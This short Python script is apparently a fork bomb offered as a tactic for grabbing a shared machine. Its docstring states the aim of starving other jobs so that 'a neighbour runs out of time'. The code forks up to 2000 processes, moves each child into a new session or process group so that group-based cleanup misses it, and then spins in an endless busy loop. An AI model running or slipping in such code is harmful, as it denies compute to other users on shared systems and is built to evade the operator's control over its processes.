"""Forks in every process until nothing more is given, in sessions and groups of its own.

Gains: the machine to itself: the batch stops, or a neighbour runs out of time.
"""

HONEST = []

# %% [reshape]
import os

for _ in range(2000):
    try:
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                os.setpgid(0, 0)
    except OSError:
        break
while True:
    pass
